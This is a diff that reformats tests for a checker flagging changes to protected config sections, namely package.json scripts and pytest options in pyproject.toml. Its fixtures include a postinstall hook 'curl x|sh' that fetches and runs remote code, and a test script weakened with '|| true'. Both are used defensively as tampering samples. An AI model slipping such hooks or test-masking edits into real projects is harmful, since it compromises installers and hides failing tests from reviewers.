@@ -60,8 +60,12 @@ describe('protected sections', () => {
   const base = JSON.stringify({ name: 'x', scripts: { test: 'node --test' }, dependencies: { a: '1' } });
 
   it('flags a changed test script and an added postinstall, not a dependency change', () => {
-    expect(changedJsonKeys(base, JSON.stringify({ name: 'x', scripts: { test: 'node --test || true' }, dependencies: { a: '1' } }), ['scripts'])).toEqual(['scripts']);
-    expect(changedJsonKeys(base, JSON.stringify({ name: 'x', scripts: { test: 'node --test', postinstall: 'curl x|sh' }, dependencies: { a: '1' } }), ['scripts'])).toEqual(['scripts']);
+    expect(changedJsonKeys(base, JSON.stringify({ name: 'x', scripts: { test: 'node --test || true' }, dependencies: { a: '1' } }), ['scripts'])).toEqual([
+      'scripts',
+    ]);
+    expect(
+      changedJsonKeys(base, JSON.stringify({ name: 'x', scripts: { test: 'node --test', postinstall: 'curl x|sh' }, dependencies: { a: '1' } }), ['scripts']),
+    ).toEqual(['scripts']);
     expect(changedJsonKeys(base, JSON.stringify({ name: 'x', scripts: { test: 'node --test' }, dependencies: { a: '2' } }), ['scripts'])).toEqual([]);
   });
 
@@ -72,7 +76,7 @@ describe('protected sections', () => {
 
   it('flags a pytest section of pyproject.toml, not the project metadata', () => {
     const before = '[project]\nname = "m"\n\n[tool.pytest.ini_options]\naddopts = "-q"\n';
-    expect(changedIniSections(before, before.replace('-q"', '-q -k \'not slow\'"'), /^tool\.pytest/)).toEqual(['tool.pytest.ini_options']);
+    expect(changedIniSections(before, before.replace('-q"', "-q -k 'not slow'\""), /^tool\.pytest/)).toEqual(['tool.pytest.ini_options']);
     expect(changedIniSections(before, before.replace('name = "m"', 'name = "n"'), /^tool\.pytest/)).toEqual([]);
   });
 });
